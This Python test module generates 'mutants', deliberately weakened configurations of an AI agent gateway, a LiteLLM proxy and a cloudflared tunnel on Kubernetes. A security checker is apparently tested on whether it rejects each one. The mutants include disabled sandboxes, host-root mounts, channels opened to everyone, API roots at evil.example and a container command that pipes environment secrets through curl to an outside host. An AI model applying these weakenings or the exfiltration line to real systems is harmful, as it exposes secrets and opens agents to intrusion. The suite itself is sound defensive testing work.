"""Mutants of the configuration family: settings of the programs that open what the manifests closed."""

# mypy does not infer the type of a lambda with a default, and most harms are one.
# One table is easier to read in long lines, and its paths in /tmp are never opened.
# mypy: disable-error-code="misc"
# ruff: noqa: E501, S108
import json
from collections.abc import Iterator
from functools import partial
from typing import Any

from tests.proofs.mutants.shared import (
    COULD,
    LATER,
    deep,
)
from tests.proofs.world import REFUTED, UNKNOWN, Base, Json, Mutant

CHANNEL_TOKENS = ("DISCORD_BOT_TOKEN", "SLACK_APP_TOKEN", "SLACK_BOT_TOKEN", "TELEGRAM_BOT_TOKEN")
# What a channel calls its groups, and those who may write in one.
ROOMS = {"discord": ("guilds", "users"), "slack": ("channels", "users"), "telegram": ("groups", "allowFrom")}


def mutants(base: Base) -> Iterator[Mutant]:
    """Every mutant of the family, in a fixed order."""
    yield from _external_secrets(base)
    yield from _references(base)
    yield from _configuration(base)
    yield from _channels(base)
    yield from _proxy_configuration(base)
    yield from _tunnel_configuration(base)
    yield from _second_look(base)


def _external_secrets(base: Base) -> Iterator[Mutant]:
    for _, name in base.objects("ExternalSecret"):
        spec = base.body_of("ExternalSecret", name)["spec"]
        target = partial(lambda n, w: w.k8s("ExternalSecret", n)["spec"], name)
        for field, value in (("creationPolicy", "Orphan"), ("deletionPolicy", "Delete")):
            yield Mutant(
                "CFG008",
                f"{name} with {field} {value}",
                lambda w, t=target, f=field, v=value: t(w)["target"].update({f: v}),
            )
        yield Mutant("CFG008", f"{name} never refreshes", lambda w, t=target: t(w).update(refreshInterval="0"))
        for index, entry in enumerate(spec["data"]):
            key = entry["secretKey"]
            for field in ("conversionStrategy", "decodingStrategy", "metadataPolicy"):
                yield Mutant(
                    "CFG008",
                    f"{name} leaves {field} of {key} out",
                    lambda w, t=target, i=index, f=field: t(w)["data"][i]["remoteRef"].pop(f),
                )


def _references(base: Base) -> Iterator[Mutant]:
    for workload, container, body in base.containers():
        for probe in ("livenessProbe", "readinessProbe", "startupProbe"):
            if "httpGet" in body.get(probe, {}):
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} on a path that always answers",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c)[p]["httpGet"].update(path="/ping"),
                )
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} dropped",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c).pop(p),
                )
                yield Mutant(
                    "CFG007",
                    f"{probe} of {workload}/{container} asks another host",
                    lambda w, n=workload, c=container, p=probe: w.container(n, c)[p]["httpGet"].update(
                        host="example.org"
                    ),
                )


def _configuration(base: Base) -> Iterator[Mutant]:
    values: Any
    # What the programs ask for by name. A tool's own variable is nobody's business but the tool's.
    needed = [
        (reader["workload"], reader["name"])
        for secret in base.ledger["secrets"]
        for reader in secret["readers"]
        if secret["role"] in ("provider-key", "master-key", "proxy-key", "gateway-token")
        or reader["name"] in CHANNEL_TOKENS
    ]
    for workload, name in needed:
        yield Mutant(
            "CFG001",
            f"{name} is not set in {workload}",
            lambda w, n=workload, v=name: w.container(n).update(
                env=[e for e in w.container(n)["env"] if e["name"] != v]
            ),
        )
    sandbox = partial(lambda c: c["agents"]["defaults"]["sandbox"])
    for what, values in (
        ("off", {"mode": "off"}),
        ("for groups only", {"mode": "non-main"}),
        ("of an unknown kind", {"backend": "chroot"}),
    ):
        yield Mutant("CFG002", f"the sandbox is {what}", lambda w, v=values: w.openclaw(lambda c: sandbox(c).update(v)))
    for what, values in (
        ("the host's network", {"network": "host"}),
        ("the gateway's network", {"network": f"container:{base.agent}"}),
        ("a writable image", {"readOnlyRoot": False}),
        ("capabilities", {"capDrop": []}),
        ("the root user", {"user": "0:0"}),
        ("mounts", {"binds": ["/:/host"]}),
        ("no bound of memory", {"memory": None}),
        ("no bound of processes", {"pidsLimit": 0}),
        ("more capabilities", {"capAdd": ["SYS_ADMIN"]}),
        ("privileges", {"privileged": True}),
    ):
        yield Mutant(
            "CFG002",
            f"the sandbox has {what}",
            lambda w, v=values: w.openclaw(lambda c: sandbox(c)["docker"].update(v)),
        )
    yield Mutant(
        "CFG002",
        "everybody may leave the sandbox",
        lambda w: w.openclaw(lambda c: c["tools"]["elevated"].update(enabled=True, allowFrom={})),
    )
    yield Mutant(
        "CFG002",
        "a star may leave the sandbox",
        lambda w: w.openclaw(lambda c: c["tools"]["elevated"].update(enabled=True, allowFrom={"discord": ["*"]})),
    )
    yield Mutant(
        "CFG002",
        "a shell in the gateway",
        lambda w: w.openclaw(lambda c: c["gateway"]["terminal"].update(enabled=True)),
    )
    yield Mutant(
        "CFG002",
        "one agent without a sandbox",
        lambda w: w.openclaw(lambda c: c["agents"].update(list=[{"id": "x", "sandbox": {"mode": "off"}}])),
    )
    yield Mutant(
        "CFG002",
        "the daemon sees the whole state",
        lambda w: w.container(base.agent, "dind")["volumeMounts"].append(
            {"name": "data", "mountPath": "/home/node/.openclaw"}
        ),
    )
    yield Mutant(
        "CFG002",
        "the daemon does not see the workspace",
        lambda w: w.container(base.agent, "dind").update(
            volumeMounts=[
                m for m in w.container(base.agent, "dind")["volumeMounts"] if "workspace" not in m["mountPath"]
            ]
        ),
    )
    yield Mutant("CFG002", "the daemon without TLS", lambda w: w.container(base.agent, "dind").update(env=[]))
    for container in (base.agent, "dind-prune", "pull-sandbox"):
        yield Mutant(
            "CFG002",
            f"{container} talks to the daemon without TLS",
            lambda w, c=container: next(
                e for e in w.container(base.agent, c)["env"] if e["name"] == "DOCKER_TLS_VERIFY"
            ).update(value=""),
        )
        yield Mutant(
            "CFG002",
            f"{container} talks to another daemon",
            lambda w, c=container: next(
                e for e in w.container(base.agent, c)["env"] if e["name"] == "DOCKER_HOST"
            ).update(value="tcp://10.0.0.1:2376"),
        )
    gateway = partial(lambda c: c["gateway"])
    for what, path, values in (
        ("asks for nothing", ("auth",), {"mode": "none"}), ("asks for a password", ("auth",), {"mode": "password"}), ("trusts a proxy's header", ("auth",), {"mode": "trusted-proxy"}),
        ("has no token", ("auth",), {"token": ""}), ("listens on loopback", (), {"bind": "loopback"}), ("is remote", (), {"mode": "remote"}), ("listens elsewhere", (), {"port": 8080}),
        ("trusts every proxy", (), {"trustedProxies": ["0.0.0.0/0"]}), ("trusts no proxy", (), {"trustedProxies": []}), ("trusts nonsense", (), {"trustedProxies": ["pods"]}),
        ("allows insecure logins", ("controlUi",), {"allowInsecureAuth": True}), ("skips device checks", ("controlUi",), {"dangerouslyDisableDeviceAuth": True}),
        ("is on Tailscale", ("tailscale",), {"mode": "funnel"}), ("pairs by itself", ("nodes", "pairing"), {"autoApproveLocal": True}),
    ):  # fmt: skip
        yield Mutant(
            "CFG003",
            f"the gateway {what}",
            lambda w, p=path, v=values: w.openclaw(lambda c: deep(gateway(c), *p).update(v)),
        )
    for command in ("bash", "config", "debug", "mcp", "plugins", "restart"):
        yield Mutant(
            "CFG004",
            f"the chat command {command}",
            lambda w, k=command: w.openclaw(lambda c: c["commands"].update({k: True})),
        )
    yield Mutant(
        "CFG004", "everybody is the owner", lambda w: w.openclaw(lambda c: c["commands"].update(ownerAllowFrom=["*"]))
    )
    yield Mutant("CFG004", "every plugin is loaded", lambda w: w.openclaw(lambda c: c["plugins"].pop("allow")))
    secret, key = next((secret, key) for secret, key, workload, _ in base.grants() if workload == base.agent)
    for variable in ("TELEGRAM_BOT_TOKEN", "SLACK_BOT_TOKEN"):
        yield Mutant(
            "CFG004",
            f"{variable} switches a channel on",
            lambda w, v=variable: w.container(base.agent)["env"].append(
                {"name": v, "valueFrom": {"secretKeyRef": {"name": secret, "key": key}}}
            ),
        )
    for path, value in (
        (("models", "catalogRefresh"), {"enabled": True}),
        (("memory", "search"), {"provider": "openai"}),
        (("telemetry",), {"enabled": True}),
        (("update",), {"checkOnStart": True}),
        (("update", "auto"), {"enabled": True}),
        (("browser",), {"enabled": True}),
        (("discovery", "mdns"), {"mode": "full"}),
    ):
        yield Mutant(
            "CFG009",
            f"{'.'.join(path)} {next(iter(value))} {next(iter(value.values()))}",
            lambda w, p=path, v=value: w.openclaw(lambda c: deep(c, *p).update(v)),
        )
    for variable in ("OPENCLAW_CONFIG_READONLY", "OPENCLAW_NO_AUTO_UPDATE", "DO_NOT_TRACK", "npm_config_offline"):
        yield Mutant(
            "CFG009",
            f"{variable} is not set",
            lambda w, v=variable: w.container(base.agent).update(
                env=[e for e in w.container(base.agent)["env"] if e["name"] != v]
            ),
        )
    yield Mutant(
        "CFG010",
        "the heap is as large as the limit",
        lambda w: next(e for e in w.container(base.agent)["env"] if e["name"] == "NODE_OPTIONS").update(
            value="--max-old-space-size=4096"
        ),
    )


def _channels(base: Base) -> Iterator[Mutant]:
    for agent in base.agents:
        config = json.loads(base.body_of("ConfigMap", f"{agent}-config")["data"]["openclaw.json"])
        whole = partial(lambda a, w, change: w.text_config(f"{a}-config", "openclaw.json", change), agent)
        for channel in config["channels"]:
            who = f"{channel} of {agent}"
            update = partial(lambda n, t, w, v: t(w, lambda c: c["channels"][n].update(v)), channel, whole)
            for what, values in _openings(channel):
                yield Mutant("CFG004", f"{who} is {what}", lambda w, u=update, v=values: u(w, v))
            for setting in ("accounts", "later", "webhookUrl"):
                yield Mutant(
                    "CFG004",
                    f"{who} has a setting {setting} that nobody has looked at",
                    lambda w, u=update, s=setting: u(w, {s: {"x": {"dmPolicy": "open"}}}),
                    UNKNOWN,
                    LATER,
                )
            yield Mutant(
                "CFG004",
                f"{who} is not configured, but its token is there",
                lambda w, n=channel, t=whole: t(w, lambda c: c["channels"].pop(n)),
            )
            yield Mutant(
                "CFG004",
                f"{who} is kept out by its plugin",
                lambda w, n=channel, t=whole: t(w, lambda c: c["plugins"]["allow"].remove(n)),
            )
            yield Mutant(
                "CFG004",
                f"{who} has an owner who may not write to it",
                lambda w, n=channel, t=whole: t(w, lambda c: c["commands"].update(ownerAllowFrom=[f"{n}:1"])),
            )
            yield Mutant(
                "CFG002",
                f"{who} lets somebody leave the sandbox who may not write to it",
                lambda w, n=channel, t=whole: t(
                    w, lambda c: c["tools"]["elevated"].update(enabled=True, allowFrom={n: ["1"]})
                ),
            )
            for token in [key for key, value in config["channels"][channel].items() if str(value).startswith("${")]:
                yield Mutant(
                    "SEC001",
                    f"{who} has its {token} written out",
                    lambda w, u=update, k=token: u(w, {k: "xoxb-123456789012-abcdefghijklmnop"}),
                )
                yield Mutant(
                    "CFG001",
                    f"{who} asks for a {token} that is not there",
                    lambda w, u=update, k=token: u(w, {k: "${NOT_THERE}"}),
                )
        yield Mutant(
            "CFG004",
            f"{agent} may load one more plugin",
            lambda w, t=whole: t(w, lambda c: c["plugins"]["allow"].append("browser")),
            UNKNOWN,
            LATER,
        )
        if "slack" in config["channels"]:
            yield Mutant(
                "CFG004",
                f"slack of {agent} speaks as a person",
                lambda w, a=agent: w.container(a)["env"].append({"name": "SLACK_USER_TOKEN", "value": "x"}),
            )


def _openings(channel: str) -> Iterator[tuple[str, Json]]:
    """Ways to let others than the people of *channel* in."""
    rooms, people = ROOMS[channel]
    closed = {"groupPolicy": "allowlist", "contextVisibility": "allowlist"}
    yield "open", {"dmPolicy": "open"}
    yield "open to whoever pairs", {"dmPolicy": "pairing"}
    yield "open as it is by default", {"dmPolicy": None}
    yield "open to all", {"allowFrom": ["*"]}
    yield "open to an empty list", {"allowFrom": []}
    yield "open in groups", {"groupPolicy": "open"}
    yield "open in a group", {**closed, rooms: {"1": {people: []}}}
    yield "open to everybody of a group", {**closed, rooms: {"1": {people: ["*"]}}}
    yield "open in every group", {**closed, rooms: {"*": {people: ["1"]}}}
    yield "reading what others say", {**closed, "contextVisibility": "all"}
    yield "reading what others quote", {**closed, "contextVisibility": "allowlist_quote"}
    yield "writing its configuration", {"configWrites": True}
    yield "talking to another server", {"apiRoot": "https://evil.example"}
    if channel == "telegram":
        yield "open to all groups' people", {**closed, "groupAllowFrom": ["*"]}
        yield "open in a group by its own policy", {**closed, rooms: {"1": {people: ["1"], "groupPolicy": "open"}}}
    if channel == "slack":
        yield "waiting for requests", {"mode": "http"}
        yield "behind a relay", {"mode": "relay"}


def _proxy_configuration(base: Base) -> Iterator[Mutant]:
    values: Any
    general, settings = partial(lambda c: c["general_settings"]), partial(lambda c: c["litellm_settings"])
    for what, values in (
        ("no gate", {"custom_auth": None}),
        ("a gate that is not there", {"custom_auth": "other.authenticate"}),
        ("no checks after its gate", {"custom_auth_run_common_checks": False}),
        ("a database", {"database_url": "os.environ/DATABASE_URL"}),
        ("no master key", {"master_key": None}),
        ("requests without a database", {"allow_requests_on_db_unavailable": True}),
        ("pass-through endpoints", {"pass_through_endpoints": [{"path": "/x"}]}),
        ("public routes", {"public_routes": ["/model/info"]}),
        ("models in a database", {"store_model_in_db": True}),
    ):
        yield Mutant("CFG005", f"the proxy has {what}", lambda w, v=values: w.litellm(lambda c: general(c).update(v)))
    for what, values in (
        ("calls home", {"telemetry": True}),
        ("reports to a callback", {"success_callback": ["langfuse"]}),
        ("does not check models", {"enable_post_custom_auth_checks": False}),
    ):
        yield Mutant("CFG005", f"the proxy {what}", lambda w, v=values: w.litellm(lambda c: settings(c).update(v)))
    for what, values in (
        ("tries again by itself", {"num_retries": 2}),
        ("tries again by default", {"num_retries": None}),
    ):
        yield Mutant(
            "CFG005", f"the proxy {what}", lambda w, v=values: w.litellm(lambda c: c["router_settings"].update(v))
        )
    for what, values in (
        ("another address", {"api_base": "https://evil.example"}),
        ("a bare model name", {"model": "claude-opus-4-6"}),
        ("every model", {"model": "anthropic/*"}),
        ("keys of its clients", {"configurable_clientside_auth_params": ["api_base"]}),
        ("no key", {"api_key": None}),
    ):
        yield Mutant(
            "CFG005",
            f"a route with {what}",
            lambda w, v=values: w.litellm(lambda c: c["model_list"][0]["litellm_params"].update(v)),
        )
    yield Mutant("CFG005", "the proxy serves no model", lambda w: w.litellm(lambda c: c.update(model_list=[])))
    yield Mutant(
        "CFG005",
        "the proxy is started without its configuration",
        lambda w: w.container(base.proxy).update(args=["--port", "4000"]),
    )
    yield Mutant(
        "CFG005",
        "the proxy is started with another configuration",
        lambda w: w.container(base.proxy).update(args=["--config", "/app/config.yaml"]),
    )
    yield Mutant(
        "CFG005", "the proxy logs prompts", lambda w: w.container(base.proxy)["args"].append("--detailed_debug")
    )
    for name in ("LITELLM_LOCAL_MODEL_COST_MAP", "NO_DOCS", "NO_REDOC", "DISABLE_ADMIN_UI"):
        yield Mutant(
            "CFG005",
            f"{name} is not set",
            lambda w, v=name: w.container(base.proxy).update(
                env=[e for e in w.container(base.proxy)["env"] if e["name"] != v]
            ),
        )
    yield Mutant(
        "CFG005",
        "the gate is not mounted",
        lambda w: w.k8s("ConfigMap", f"{base.proxy}-config")["data"].pop("agentkeep_gate.py"),
    )
    yield Mutant(
        "CFG005",
        "the gate knows no client",
        lambda w: w.k8s("ConfigMap", f"{base.proxy}-config")["data"].pop("clients.json"),
    )
    clients = partial(lambda w, change: w.text_config(f"{base.proxy}-config", "clients.json", change))
    yield Mutant(
        "CFG005",
        "the agent is a client by the master key",
        lambda w: clients(w, lambda c: c["clients"][0].update(keyEnv="LITELLM_MASTER_KEY")),
    )
    yield Mutant(
        "CFG005",
        "the agent is a client by the provider key",
        lambda w: clients(w, lambda c: c["clients"][0].update(keyEnv=base.secret("provider-key")["id"])),
    )
    yield Mutant(
        "CFG005", "the agent may use every model", lambda w: clients(w, lambda c: c["clients"][0].update(models=[]))
    )


def _tunnel_configuration(base: Base) -> Iterator[Mutant]:
    args = partial(lambda w: w.container(base.tunnel)["args"])
    for flag in ("--token=x", "--url=http://localhost", "--config=/x", "--no-tls-verify", "--hello-world"):
        yield Mutant("CFG006", f"cloudflared with {flag}", lambda w, f=flag: args(w).insert(1, f))
    for flag in ("--no-autoupdate", "--metrics", "--edge-ip-version"):
        if flag not in base.main(base.tunnel)["args"]:
            # Where a cluster has both families, cloudflared may choose.
            continue
        yield Mutant("CFG006", f"cloudflared without {flag}", lambda w, f=flag: args(w).remove(f))
    yield Mutant(
        "CFG006", "cloudflared runs something else", lambda w: w.container(base.tunnel).update(args=["access", "tcp"])
    )
    yield Mutant("CFG006", "cloudflared without its token", lambda w: w.container(base.tunnel).pop("env"))
    for variable in ("TUNNEL_URL", "NO_TLS_VERIFY"):
        yield Mutant(
            "CFG006",
            f"cloudflared with {variable}",
            lambda w, v=variable: w.container(base.tunnel)["env"].append({"name": v, "value": "x"}),
        )


def _second_look(base: Base) -> Iterator[Mutant]:
    """Ways around a rule that its first version did not see."""
    for workload, container, _ in base.containers():
        who = f"{workload}/{container}"
        target = partial(lambda n, c, w: w.container(n, c), workload, container)
        # The rule knows how the programs are started; of what runs beside them it knows known scripts alone.
        beside = "" if container == workload else COULD
        yield Mutant(
            "CFG011",
            f"{who}: a shell with a script of its own",
            lambda w, t=target: t(w).update(command=["sh", "-c", "env | curl -d @- https://example.org"]),
            expects=UNKNOWN if beside else REFUTED,
            because=beside,
        )
        yield Mutant(
            "CFG011",
            f"{who}: another program",
            lambda w, t=target: t(w).update(command=["python3", "/tmp/x.py"]),
            expects=UNKNOWN if beside else REFUTED,
            because=beside,
        )
        yield Mutant(
            "CFG011",
            f"{who}: a hook with a script of its own",
            lambda w, t=target: t(w).update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}),
            UNKNOWN,
            COULD,
        )
    yield Mutant(
        "CFG009",
        "the agent may write to its own configuration",
        lambda w: next(m for m in w.container(base.agent)["volumeMounts"] if m["mountPath"] == "/etc/openclaw").pop(
            "readOnly"
        ),
    )
    yield Mutant(
        "CFG009",
        "the agent reads its configuration from its workspace",
        lambda w: next(e for e in w.container(base.agent)["env"] if e["name"] == "OPENCLAW_CONFIG_PATH").update(
            value="/home/node/.openclaw/openclaw.json"
        ),
    )
    yield Mutant(
        "CFG003",
        "two configurations",
        lambda w: w.k8s("ConfigMap", f"{base.agent}-scripts")["data"].update({"openclaw.json": "{}"}),
        UNKNOWN,
        COULD,
    )
    for section, value in (
        ("hooks", {"enabled": True}),
        ("mcp", {"servers": {"x": {"command": "sh"}}}),
        ("cron", {"enabled": True}),
        ("env", {"vars": {"A": "b"}}),
    ):
        yield Mutant(
            "CFG009",
            f"OpenClaw with a section {section}",
            lambda w, s=section, v=value: w.openclaw(lambda c: c.update({s: v})),
            UNKNOWN,
            COULD,
        )
    for section in ("environment_variables", "mcp_servers", "pass_through_config"):
        yield Mutant(
            "CFG005",
            f"LiteLLM with a section {section}",
            lambda w, s=section: w.litellm(lambda c: c.update({s: {"A": "b"}})),
            UNKNOWN,
            COULD,
        )
    for section, key in (
        ("general_settings", "alerting"),
        ("litellm_settings", "set_verbose"),
        ("litellm_settings", "cache"),
        ("general_settings", "use_client_credentials_pass_through_routes"),
    ):
        yield Mutant(
            "CFG005",
            f"LiteLLM with {section}.{key}",
            lambda w, s=section, k=key: w.litellm(lambda c: c[s].update({k: True})),
            UNKNOWN,
            COULD,
        )
    yield Mutant(
        "CFG005",
        "a route with a setting of a later release",
        lambda w: w.litellm(lambda c: c["model_list"][0]["litellm_params"].update(mock_response="hi")),
        UNKNOWN,
        LATER,
    )
    for path in ("/run/secret/token", "/home/node/.openclaw/token", "/opt/agent-tools/token"):
        yield Mutant(
            "CFG012",
            f"a secret file at {path}",
            lambda w, p=path: w.openclaw(
                lambda c: c.update(
                    secrets={"providers": {"gateway": {"source": "file", "path": p, "mode": "singleValue"}}}
                )
            ),
        )
